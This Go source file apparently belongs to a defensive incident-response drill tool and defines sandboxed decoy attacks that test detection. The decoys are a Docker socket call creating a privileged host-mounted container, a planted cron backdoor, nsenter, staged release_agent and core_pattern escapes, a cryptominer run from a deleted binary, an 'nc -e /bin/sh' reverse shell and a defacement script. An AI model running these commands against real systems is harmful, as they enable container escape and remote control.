package drill

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"slices"
	"strings"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/volume"

	"firebreak/collect"
	"firebreak/internal/app"
)

// A decoy behaves like one kind of incident without endangering the host:
// every one runs as an ordinary container of the local busybox image on
// the drill's internal network, none is privileged, and none writes a host
// setting. Each says which triage findings name its technique (how
// detection is timed) and which artifacts the captured evidence must
// hold.
type decoy struct {
	kind string
	what string // one line: what it does
	// detect are the triage findings that name the technique; empty
	// with detectHealth: the service failing its health check is the
	// alert; empty otherwise: triage has no rule that sees it.
	detect       []string
	detectHealth bool
	restore      bool // the drill measures the service healthy again
	// setup makes everything before the incident (peers, volumes, the
	// decoy created but not started); act begins it, and its engine event
	// starts the clock.
	setup func(ctx context.Context, x *liveRun) error
	act   func(ctx context.Context, x *liveRun) error
}

// wants are what the evidence of a decoy must hold, filled by its setup.
type wants struct {
	files      []wantFile // in the fs diff (fsdiff/changes.json)
	hostFiles  []wantFile // planted under the decoy host root, which triage must name
	process    *wantProcess
	socketPort int      // a TCP connection to the peer on this port (network.json)
	binary     bool     // the deleted executable's content kept (processes/PID/exe)
	calls      bool     // refused calls in the decoy socket's log
	mounts     []string // destinations in the container's configuration (inspect.json)
	service    bool     // the restored service answers
}

type wantFile struct {
	path string
	sha  string // hex; "" for any content
}

type wantProcess struct {
	text  string
	match func(p collect.Process) bool
	// onSocket: the process must also hold the connection to the peer
	// (the captured sockets name it among their owners).
	onSocket bool
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// shq quotes s for sh.
func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// armed is what a decoy prints once its incident has happened; the
// unattended response waits for it (a decoy frozen before it acted would
// leave nothing to find).
const armed = "fbdrill: armed"

const peerPort = 8080

// webPeer is the service a decoy's network reaches: busybox httpd.
func webPeer() spec {
	return spec{role: "peer", script: "mkdir -p /www && echo fbdrill-peer > /www/index.html && exec httpd -f -p 8080 -h /www", memory: 32 << 20}
}

// startPeer makes and starts a peer and returns its address.
func startPeer(ctx context.Context, x *liveRun, s spec, port int) error {
	id, err := x.sb.run(ctx, s)
	if err != nil {
		return err
	}
	x.peer, x.peerPort = id, port
	x.peerAddr, err = x.sb.address(ctx, id)
	return err
}

func startTarget(ctx context.Context, x *liveRun) error { return x.sb.start(ctx, x.target) }

func procHas(p collect.Process, s string) bool {
	return strings.Contains(strings.Join(p.Cmdline, " "), s)
}

var decoys = map[string]*decoy{
	"engine-socket": {
		kind: "engine-socket", what: "a container with a decoy engine socket at /var/run/docker.sock that lists containers and tries to create a privileged one and exec into another",
		detect: []string{"engine-socket"},
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			if _, err := x.sb.startProxy(x.proxyCall); err != nil {
				return err
			}
			client, err := unixClient("/var/run/docker.sock")
			files := map[string]fileSpec{}
			script := "echo 'no socket client for this architecture'; echo '" + armed + "'; exec sleep 86400"
			if err == nil {
				files["/tmp/.d/docker"] = fileSpec{data: client, mode: 0o755}
				x.want.files = append(x.want.files, wantFile{path: "/tmp/.d/docker", sha: hex.EncodeToString(sha256Bytes(client))})
				x.want.calls = true
				script = `call() { printf '%s %s HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' "$1" "$2" "${#3}" "$3" | /tmp/.d/docker > /dev/null 2>&1; }
round() {
  call GET /_ping ''
  call GET /v1.41/version ''
  call GET /v1.41/containers/json ''
  call POST /v1.41/containers/create '{"Image":"busybox","Cmd":["sh"],"HostConfig":{"Privileged":true,"PidMode":"host","Binds":["/:/host"]}}'
  call POST /v1.41/containers/` + x.sb.name("peer") + `/exec '{"Cmd":["sh","-c","id"],"AttachStdout":true}'
}
round; echo '` + armed + `'
while :; do sleep 5; round; done`
			} else {
				x.notes = append(x.notes, err.Error())
			}
			x.want.mounts = []string{"/var/run/docker.sock"}
			x.want.process = &wantProcess{text: "the decoy's shell, calling the socket", match: func(p collect.Process) bool { return procHas(p, "/tmp/.d/docker") }}
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, files: files, memory: 64 << 20,
				binds: []string{x.sb.proxy.Path() + ":/var/run/docker.sock"}, env: []string{"DOCKER_HOST=unix:///var/run/docker.sock"}})
			return err
		},
		act: startTarget,
	},
	"host-mount": {
		kind: "host-mount", what: "a container with sensitive host files mounted read-only and a writable decoy host root, where it plants a cron job",
		detect: []string{"live-host-mount-writes"},
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			for _, d := range []string{"etc/cron.d", "root/.ssh"} {
				if err := os.MkdirAll(x.sb.HostDir+"/"+d, 0o755); err != nil {
					return err
				}
			}
			payload := "#!/bin/sh\n# fbdrill decoy payload: harmless\nid > /tmp/.x/out\n"
			cron := "* * * * * root /tmp/.x/payload.sh # fbdrill decoy: a planted cron job\n"
			binds := []string{x.sb.HostDir + ":/host"}
			for _, p := range []string{"/etc/passwd", "/etc/group"} {
				if _, err := os.Stat(p); err == nil {
					binds = append(binds, p+":/hostfs"+p+":ro")
					x.want.mounts = append(x.want.mounts, "/hostfs"+p)
				}
			}
			script := "mkdir -p /tmp/.x && printf '%s' " + shq(payload) + " > /tmp/.x/payload.sh && chmod 755 /tmp/.x/payload.sh\n" +
				"cat /hostfs/etc/passwd > /dev/null 2>&1\nsleep 1\n" +
				"printf '%s' " + shq(cron) + " > /host/etc/cron.d/fbdrill-backdoor\n" +
				"echo '" + armed + "'; exec sleep 86400"
			x.want.files = []wantFile{{path: "/tmp/.x/payload.sh", sha: sum(payload)}}
			x.want.hostFiles = []wantFile{{path: "etc/cron.d/fbdrill-backdoor", sha: sum(cron)}}
			x.want.process = &wantProcess{text: "the decoy's process", match: func(p collect.Process) bool { return procHas(p, "sleep") }}
			var err error
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, binds: binds, memory: 64 << 20})
			return err
		},
		act: startTarget,
	},
	"nsenter": {
		kind: "nsenter", what: "a container with the host's PID namespace, SYS_ADMIN and SYS_PTRACE that enters the mount namespace of a sentinel process the drill started (never PID 1)",
		detect: []string{"live-outside-namespaces", "live-foreign-root"},
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			s, err := x.sb.startSentinel()
			if err != nil {
				return err
			}
			script := `nsenter -t "$FBDRILL_SENTINEL" -m -- sleep 86401 &
sleep 0.5; echo '` + armed + `'; exec sleep 86400`
			x.want.process = &wantProcess{text: "the process that entered the sentinel's mount namespace", match: func(p collect.Process) bool {
				return procHas(p, "86401") && len(p.Outside) > 0
			}}
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, pidHost: true, capAdd: []string{"SYS_ADMIN", "SYS_PTRACE"}, memory: 64 << 20,
				env: []string{fmt.Sprintf("FBDRILL_SENTINEL=%d", s.ref.PID)}})
			return err
		},
		act: startTarget,
	},
	"kernel-helper": {
		kind: "kernel-helper", what: "a container with SYS_ADMIN that stages the release_agent and core_pattern escapes in its own files only: a release_agent payload, a notify_on_release flag and a core_pattern pipe (never a host setting)",
		detect: []string{"combo-sys_admin-cgroup-v1", "cap-sys_admin"},
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			cmd := "#!/bin/sh\n# fbdrill decoy: what the kernel would run as host root\nps > /tmp/.x/output\n"
			agent := "/tmp/.x/cmd\n"
			pattern := "|/proc/%P/root/tmp/.x/cmd %p\n"
			script := "mkdir -p /tmp/.x/cgrp\n" +
				"printf '%s' " + shq(cmd) + " > /tmp/.x/cmd && chmod 755 /tmp/.x/cmd\n" +
				"printf '%s' " + shq(agent) + " > /tmp/.x/cgrp/release_agent\n" +
				"echo 1 > /tmp/.x/cgrp/notify_on_release\n" +
				"printf '%s' " + shq(pattern) + " > /tmp/.x/core_pattern\n" +
				"echo '" + armed + "'; exec sleep 86400"
			x.want.files = []wantFile{{"/tmp/.x/cmd", sum(cmd)}, {"/tmp/.x/cgrp/release_agent", sum(agent)}, {"/tmp/.x/cgrp/notify_on_release", sum("1\n")}, {"/tmp/.x/core_pattern", sum(pattern)}}
			x.want.process = &wantProcess{text: "the decoy's process", match: func(p collect.Process) bool { return procHas(p, "sleep") }}
			var err error
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, capAdd: []string{"SYS_ADMIN"}, memory: 64 << 20})
			return err
		},
		act: startTarget,
	},
	"cryptominer": {
		kind: "cryptominer", what: "a CPU-capped miner run from a binary it dropped and deleted, beaconing stratum (mining.subscribe) to a decoy pool on the drill network",
		detect: []string{"live-deleted-exe", "live-memfd-exe"},
		setup: func(ctx context.Context, x *liveRun) error {
			pool := spec{role: "pool", memory: 32 << 20, script: "exec nc -ll -p 3333 -e /pool.sh", files: map[string]fileSpec{
				"/pool.sh": {mode: 0o755, data: []byte("#!/bin/sh\nwhile read -r line; do echo '{\"id\":1,\"result\":true,\"error\":null}'; done\n")}}}
			if err := startPeer(ctx, x, pool, 3333); err != nil {
				return err
			}
			script := `mkdir -p /tmp/.X25-unix && cp /bin/busybox /tmp/.X25-unix/nc && cp /bin/busybox /tmp/.X25-unix/sh
(while :; do printf '%s\n' '{"id":1,"method":"mining.subscribe","params":["fbdrill-miner/1.0"]}' '{"id":2,"method":"mining.authorize","params":["fbdrill.worker","x"]}'; sleep 2; done) | /tmp/.X25-unix/nc "$FBDRILL_POOL" 3333 > /dev/null &
/tmp/.X25-unix/sh -c 'while :; do :; done' &
until netstat -tn 2>/dev/null | grep -q ':3333 .*ESTABLISHED'; do sleep 0.2; done
rm -rf /tmp/.X25-unix
echo '` + armed + `'; wait`
			x.want.socketPort = 3333
			x.want.binary = true
			x.want.process = &wantProcess{text: "the miner, running from its deleted binary", match: func(p collect.Process) bool { return p.ExeDeleted && strings.Contains(p.Exe, ".X25-unix") }}
			var err error
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, cpus: 0.2, memory: 64 << 20, env: []string{"FBDRILL_POOL=" + x.peerAddr}})
			return err
		},
		act: startTarget,
	},
	"reverse-shell": {
		kind: "reverse-shell", what: "a shell whose input and output are a TCP connection held to a decoy listener on the drill network",
		detect: []string{"live-shell-on-socket"},
		setup: func(ctx context.Context, x *liveRun) error {
			c2 := spec{role: "c2", memory: 32 << 20, script: "exec sh /c2.sh", files: map[string]fileSpec{
				"/c2.sh": {mode: 0o755, data: []byte("#!/bin/sh\nwhile :; do { echo id; sleep 1; echo hostname; sleep 86400; } | nc -l -p 4444; done\n")}}}
			if err := startPeer(ctx, x, c2, 4444); err != nil {
				return err
			}
			script := `(while :; do nc "$FBDRILL_C2" 4444 -e /bin/sh; sleep 1; done) &
until netstat -tn 2>/dev/null | grep -q ':4444 .*ESTABLISHED'; do sleep 0.2; done
echo '` + armed + `'; wait`
			x.want.socketPort = 4444
			// nc -e execs the shell in its own place: the shell itself holds
			// the connection as its input and output.
			x.want.process = &wantProcess{text: "the shell whose input and output are the connection to the listener", onSocket: true,
				match: func(p collect.Process) bool { return p.Comm == "sh" }}
			var err error
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, memory: 64 << 20, env: []string{"FBDRILL_C2=" + x.peerAddr}})
			return err
		},
		act: startTarget,
	},
	"dropped-binary": {
		kind: "dropped-binary", what: "an executable written to /tmp, run, then deleted while it runs",
		detect: []string{"live-deleted-exe", "live-memfd-exe"},
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			script := `mkdir -p /tmp/.cache && cp /bin/busybox /tmp/.cache/sleep && /tmp/.cache/sleep 86402 &
sleep 0.5; rm -rf /tmp/.cache
echo '` + armed + `'; exec sleep 86400`
			x.want.binary = true
			x.want.process = &wantProcess{text: "the dropped binary, running deleted", match: func(p collect.Process) bool { return p.ExeDeleted && procHas(p, "86402") }}
			var err error
			x.target, err = x.sb.create(ctx, spec{role: "decoy", script: script, memory: 64 << 20})
			return err
		},
		act: startTarget,
	},
	"backup-restore": {
		kind: "backup-restore", what: "a web service with its content on a named volume, backed up, then defaced: it must come back healthy from its backup",
		detectHealth: true, restore: true,
		setup: func(ctx context.Context, x *liveRun) error {
			if err := startPeer(ctx, x, webPeer(), peerPort); err != nil {
				return err
			}
			vol := x.sb.name("data")
			if _, err := x.sb.api.VolumeCreate(ctx, volume.CreateOptions{Name: vol, Labels: x.sb.labels("data")}); err != nil {
				return fmt.Errorf("creating the service's volume: %w", err)
			}
			script := `[ -f /srv/index.html ] || { echo fbdrill-ok > /srv/index.html; echo "fbdrill data" > /srv/data.db; }
exec httpd -f -p 8080 -h /srv`
			health := &container.HealthConfig{Test: []string{"CMD-SHELL", "wget -q -O - http://127.0.0.1:8080/index.html | grep -q fbdrill-ok"},
				Interval: 500 * time.Millisecond, Timeout: 2 * time.Second, Retries: 1}
			id, err := x.sb.run(ctx, spec{role: "svc", script: script, volumes: map[string]string{vol: "/srv"}, health: health, memory: 64 << 20})
			x.target = id
			if err != nil {
				return err
			}
			if err := x.waitHealthy(ctx, id, 30*time.Second); err != nil {
				return err
			}
			t, err := x.container(ctx, id)
			if err != nil {
				return err
			}
			if _, err := x.s.Backup(ctx, t, app.BackupSpec{}); err != nil {
				return fmt.Errorf("backing up the service: %w", err)
			}
			x.want.files = []wantFile{{path: "/tmp/.deface.sh", sha: sum(defaceScript)}}
			x.want.service = true
			return nil
		},
		act: func(ctx context.Context, x *liveRun) error {
			res, err := x.exec(ctx, x.target, []string{"sh", "-c", "printf '%s' " + shq(defaceScript) + " > /tmp/.deface.sh && sh /tmp/.deface.sh"})
			if err != nil {
				return fmt.Errorf("defacing the service: %w", err)
			}
			if res != 0 {
				return fmt.Errorf("defacing the service: exit %d", res)
			}
			return nil
		},
	},
}

const defaceScript = "#!/bin/sh\n# fbdrill decoy: the damage\necho 'defaced by fbdrill' > /srv/index.html\nrm -f /srv/data.db\n"

func sha256Bytes(b []byte) []byte {
	h := sha256.Sum256(b)
	return h[:]
}

// DecoyKinds are the decoys a live drill can make, sorted.
func DecoyKinds() []string {
	out := make([]string, 0, len(decoys))
	for k := range decoys {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}
